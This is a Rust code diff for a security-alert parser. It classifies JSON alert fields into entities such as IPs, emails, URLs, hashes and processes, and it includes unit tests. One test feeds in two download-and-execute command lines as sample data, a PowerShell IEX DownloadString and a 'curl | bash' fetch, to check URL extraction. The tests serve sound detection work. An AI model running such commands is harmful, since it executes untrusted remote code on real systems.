+        // Array items keep the array's key (`recipients: [..]`).
+        Value::Array(items) => {
+            for item in items {
+                if *budget == 0 || set.is_full() {
+                    return;
+                }
+                walk_inner(item, key, parent, depth + 1, budget, set);
+            }
+        }
+        Value::String(s) => classify_string(s, key, parent, set),
+        _ => {}
+    }
+}
+
+/// Adds one string found under `key` (normalised) inside an object found under `parent`.
+pub fn classify_string(s: &str, key: &str, parent: &str, set: &mut EntitySet) {
+    let t = s.trim();
+    if t.is_empty() || t.len() > MAX_STR_LEN || is_placeholder(t) {
+        return;
+    }
+    let hint = hint_for(key, parent);
+    let role = role_for(key, parent, hint);
+    // Shapes first: they are unambiguous whatever the key.
+    if as_ip(t).is_some() {
+        set.add(EntityKind::Ip, t, role);
+        return;
+    }
+    if as_email(t).is_some() {
+        let role = match key {
+            "srcuser" => Some("sender"),
+            "destuser" => Some("recipient"),
+            _ => role.filter(|r| matches!(*r, "sender" | "recipient" | "src" | "dest")),
+        };
+        set.add(EntityKind::Email, t, role);
+        return;
+    }
+    if as_url(t).is_some() {
+        if !is_link_key(key) && !matches!(hint, Some(Hint::Process)) {
+            set.add(EntityKind::Url, t, None);
+        } else if hint == Some(Hint::Process) {
+            set.add(EntityKind::Process, t, role);
+        }
+        return;
+    }
+    match hint {
+        Some(Hint::Hash) => {
+            set.add(EntityKind::FileHash, t, None);
+        }
+        Some(Hint::SysmonHashes) => set.add_sysmon_hashes(t, None),
+        Some(Hint::Host) => {
+            set.add(EntityKind::Hostname, t, role);
+        }
+        Some(Hint::User) => {
+            set.add(EntityKind::User, t, role.filter(|r| matches!(*r, "src" | "dest")));
+        }
+        Some(Hint::Domain) => {
+            set.add(EntityKind::Domain, t, None);
+        }
+        Some(Hint::File) => {
+            set.add(EntityKind::File, t, role.filter(|r| r.ends_with("process")));
+        }
+        Some(Hint::Process) => {
+            set.add(EntityKind::Process, t, role);
+            set.add_urls_in_text(t, None);
+        }
+        Some(Hint::Email | Hint::Ip | Hint::Url) | None => {}
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Finding well-known keys anywhere (bounded breadth-first search)
+// ---------------------------------------------------------------------------------------------
+
+/// The shallowest value under any of `keys` (compared after [`norm_key`]) for which `accept`
+/// returns something, searching breadth-first to `max_depth` levels, skipping link keys. Keys
+/// earlier in `keys` win over later ones at any depth.
+pub fn find_key<T>(obj: &Object, keys: &[&str], max_depth: usize, accept: impl Fn(&Value) -> Option<T>) -> Option<T> {
+    find_key_by(obj, keys, max_depth, false, accept)
+}
+
+/// Like [`find_key`], but a shallower match wins over an earlier key (keys only break ties
+/// between matches at the same depth).
+pub fn find_key_shallow<T>(obj: &Object, keys: &[&str], max_depth: usize, accept: impl Fn(&Value) -> Option<T>) -> Option<T> {
+    find_key_by(obj, keys, max_depth, true, accept)
+}
+
+fn find_key_by<T>(
+    obj: &Object,
+    keys: &[&str],
+    max_depth: usize,
+    shallow_first: bool,
+    accept: impl Fn(&Value) -> Option<T>,
+) -> Option<T> {
+    let wanted: Vec<String> = keys.iter().map(|k| norm_key(k)).collect();
+    // Collect (priority, depth) of the best match in one pass.
+    let mut best: Option<(usize, usize, T)> = None;
+    let mut queue: std::collections::VecDeque<(&Object, usize)> = std::collections::VecDeque::new();
+    queue.push_back((obj, 0));
+    let mut budget = MAX_NODES;
+    while let Some((o, depth)) = queue.pop_front() {
+        if shallow_first && best.as_ref().is_some_and(|(_, bd, _)| depth > *bd) {
+            break;
+        }
+        for (k, v) in o {
+            if budget == 0 {
+                return best.map(|b| b.2);
+            }
+            budget -= 1;
+            let nk = norm_key(k);
+            if is_skipped_key(&nk) && !wanted.contains(&nk) {
+                continue;
+            }
+            if let Some(prio) = wanted.iter().position(|w| *w == nk) {
+                let better = best
+                    .as_ref()
+                    .is_none_or(|(bp, bd, _)| if shallow_first { depth == *bd && prio < *bp } else { prio < *bp });
+                if better && let Some(found) = accept(v) {
+                    best = Some((prio, depth, found));
+                }
+            }
+            if depth < max_depth {
+                match v {
+                    Value::Object(child) => queue.push_back((child, depth + 1)),
+                    Value::Array(items) => {
+                        for item in items.iter().take(64) {
+                            if let Value::Object(child) = item {
+                                queue.push_back((child, depth + 1));
+                            }
+                        }
+                    }
+                    _ => {}
+                }
+            }
+        }
+    }
+    best.map(|b| b.2)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn times_in_every_form() {
+        let t = |v: Value| time_any(&v).map(|t| t.to_rfc3339());
+        assert_eq!(t(json!("2024-01-15T10:00:00Z")).as_deref(), Some("2024-01-15T10:00:00+00:00"));
+        assert_eq!(t(json!("2024-06-10T16:20:03")).as_deref(), Some("2024-06-10T16:20:03+00:00"));
+        let seven = time_any(&json!("2024-06-10T15:01:44.2133817Z")).unwrap();
+        assert_eq!(seven.timestamp_subsec_nanos(), 213_381_700);
+        assert_eq!(t(json!(1705320000000u64)).as_deref(), Some("2024-01-15T12:00:00+00:00"));
+        assert_eq!(t(json!(1705320000)).as_deref(), Some("2024-01-15T12:00:00+00:00"));
+        assert_eq!(t(json!("1718031540")).as_deref(), Some("2024-06-10T14:59:00+00:00"));
+        assert_eq!(t(json!("2024-06-10T15:01:44+02:00")).as_deref(), Some("2024-06-10T13:01:44+00:00"));
+        assert_eq!(t(json!(1e300)), None);
+        assert_eq!(t(json!(-5)), None);
+        assert_eq!(t(json!("yesterday")), None);
+        assert_eq!(t(json!(null)), None);
+    }
+
+    #[test]
+    fn shapes() {
+        assert_eq!(as_ip("2001:db8::1").as_deref(), Some("2001:db8::1"));
+        assert_eq!(as_ip("[2001:db8::1]").as_deref(), Some("2001:db8::1"));
+        assert_eq!(as_ip("10.0.22631"), None);
+        assert_eq!(as_ip("00:05:00"), None);
+        assert_eq!(as_hash("0000000000000000000000000000000000000000"), None);
+        assert_eq!(as_hash("DA16CC2BBD7DBC782AABB7489D3F0D6C").as_deref(), Some("da16cc2bbd7dbc782aabb7489d3f0d6c"));
+        assert_eq!(as_hash("da16cc2bbd7dbc782aabb7489d3f0d6"), None);
+        assert_eq!(as_email("<a@b.example.com>"), None);
+        assert_eq!(as_email("Phisher@Malicious.com").as_deref(), Some("phisher@malicious.com"));
+        assert_eq!(as_hostname("WS-0427").as_deref(), Some("WS-0427"));
+        assert_eq!(as_hostname("WinEventLog:Security"), None);
+        assert!(as_url("https://login.example.net/x?id=1").is_some());
+        assert!(as_url("https://").is_none());
+        assert!(as_url("javascript:alert(1)").is_none());
+    }
+
+    #[test]
+    fn console_links_are_recognised() {
+        assert!(is_console_link("https://falcon.crowdstrike.com/activity/detections/detail/x"));
+        assert!(is_console_link("https://security.microsoft.com/alerts/fa1?tid=x"));
+        assert!(is_console_link("https://splunk.example.com:8000/app/search/@go?sid=scheduler__x"));
+        assert!(is_console_link("https://kibana.example.com:5601/app/security/rules/id/x"));
+        assert!(is_console_link("https://attack.mitre.org/techniques/T1059/"));
+        assert!(!is_console_link("https://login.example.net/session/renew?id=7731"));
+        assert!(is_link_key("alertWebUrl") && is_link_key("FalconHostLink") && is_link_key("results_link"));
+        assert!(is_link_key("rule_url") && !is_link_key("url"));
+    }
+
+    #[test]
+    fn titles_are_capped_on_char_boundaries() {
+        let long = "é".repeat(600);
+        let t = title(&format!("  {long}  "));
+        assert_eq!(t.chars().count(), MAX_TITLE_CHARS);
+        assert_eq!(title(" a\nb "), "a b");
+    }
+
+    #[test]
+    fn set_dedups_validates_and_caps() {
+        let mut s = EntitySet::new();
+        assert!(s.add(EntityKind::Email, "A@Example.com", Some("sender")));
+        assert!(!s.add(EntityKind::Email, "a@example.com", Some("recipient")));
+        assert!(!s.add(EntityKind::Ip, "not-an-ip", None));
+        assert!(!s.add(EntityKind::Url, "https://security.microsoft.com/alerts/x", None));
+        assert!(!s.add(EntityKind::User, "-", None));
+        assert!(!s.add(EntityKind::File, "", None));
+        for i in 0..500 {
+            s.add(EntityKind::Ip, &format!("10.0.{}.{}", i / 256, i % 256), None);
+        }
+        assert_eq!(s.len(), MAX_ENTITIES);
+    }
+
+    #[test]
+    fn sysmon_hashes_and_urls_in_text() {
+        let mut s = EntitySet::new();
+        s.add_sysmon_hashes(
+            "SHA1=DD0C44EBC9512E815AD4678944128D53D0CB1857,MD5=6C0F52FC08E479E61FF6F7D06C6C7CF0,SHA256=66A41197BF657CAC97458CB33D8D3BA8BFEE5AABEA4E22496019A7A32AF3BC1B,IMPHASH=15A19BAF7B8C57A3C45AFB479B541966",
+            None,
+        );
+        let v: Vec<_> = s.into_vec().into_iter().map(|e| e.value).collect();
+        assert_eq!(
+            v,
+            [
+                "66a41197bf657cac97458cb33d8d3ba8bfee5aabea4e22496019a7a32af3bc1b",
+                "dd0c44ebc9512e815ad4678944128d53d0cb1857",
+                "6c0f52fc08e479e61ff6f7d06c6c7cf0"
+            ]
+        );
+        let mut s = EntitySet::new();
+        s.add_urls_in_text("IEX (New-Object Net.WebClient).DownloadString('http://cdn.example.org/a/run.ps1')", None);
+        s.add_urls_in_text("curl -fsSL https://get.example.net/bootstrap.sh | bash", None);
+        let v: Vec<_> = s.into_vec().into_iter().map(|e| e.value).collect();
+        assert_eq!(v, ["http://cdn.example.org/a/run.ps1", "https://get.example.net/bootstrap.sh"]);
+    }
+
+    #[test]
+    fn walker_is_bounded_in_depth() {
+        let mut v = json!("10.1.1.1");
+        for _ in 0..1000 {
+            let mut o = Object::new();
+            o.insert("a".into(), Value::Array(vec![v]));
+            v = Value::Object(o);
+        }
+        let mut s = EntitySet::new();
+        walk(&v, &mut s);
+        assert!(s.is_empty());
+        std::mem::forget(v); // a deep value drops recursively; leak it in this test
+    }
+
+    #[test]
+    fn find_key_prefers_earlier_keys_then_shallower() {
+        let o = json!({"object": {"name": "guid", "properties": {"title": "Real title"}}, "x": {"title": ""}});
+        let got = find_key(o.as_object().unwrap(), &["title", "name"], 4, text);
+        assert_eq!(got.as_deref(), Some("Real title"));
+    }
+}
